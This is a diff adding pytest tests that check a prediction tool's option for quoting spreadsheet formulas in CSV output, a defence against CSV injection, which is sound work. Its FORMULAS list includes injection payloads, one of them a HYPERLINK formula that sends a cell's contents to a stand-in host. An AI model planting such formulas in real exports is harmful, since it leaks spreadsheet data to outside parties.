@@ -185,3 +185,31 @@ def test_kept_column_cannot_clash_with_predictions(predictor, numbered, tmp_path
     table.write_csv(numbered)
     with pytest.raises(SourceError, match="cannot keep 'prediction'"):
         predict(predictor, numbered, str(tmp_path / "predictions.csv"), table=None, keep=["prediction"])
+
+
+FORMULAS = ["=1+1", "+A1", "-2+A1", "@SUM(A1)", "\t=1", "\r=1", "\uff1d1", '=HYPERLINK("http://a.test/"&A1)']
+PLAIN = ["-5", "+3.5", "-1e-5", "-.5", "a=b", "", " x", "'=1", "x-y"]
+
+
+def test_formulas_in_a_csv_are_quoted_on_request(houses, store, tmp_path, run):
+    values = [*FORMULAS, *PLAIN]
+    table = pl.read_csv(houses).head(len(values))
+    numbers = [-float(index) for index in range(len(values))]
+    table.with_columns(pl.Series("=note", values), pl.Series("n", numbers)).write_csv(houses)
+    model = ("--model", "house_pricing_model", "--store", store, "--keep", "=note", "--keep", "n")
+    command = ("predict", *model, "--input", houses, "--output", tmp_path / "out.csv")
+    assert run(*command)[0] == 0
+    as_they_are = pl.read_csv(tmp_path / "out.csv", infer_schema=False)
+    assert run(*command, "--quote-formulas")[0] == 0
+    quoted = pl.read_csv(tmp_path / "out.csv", infer_schema=False)
+    kept = as_they_are["=note"].to_list()
+    assert [text for text in kept if text] == [text for text in values if text]
+    assert quoted["'=note"].to_list() == [f"'{text}" if text in FORMULAS else text for text in kept]
+    assert quoted.drop("'=note").equals(as_they_are.drop("=note"))
+
+
+def test_only_a_csv_has_formulas_to_quote(houses, store, tmp_path, run):
+    command = ("predict", "--model", "house_pricing_model", "--store", store, "--input", houses, "--quote-formulas")
+    for output in (tmp_path / "out.parquet", f"sqlite:///{tmp_path}/out.db"):
+        code, _, message = run(*command, "--output", output)
+        assert (code, "--quote-formulas is for a .csv file" in message) == (1, True)
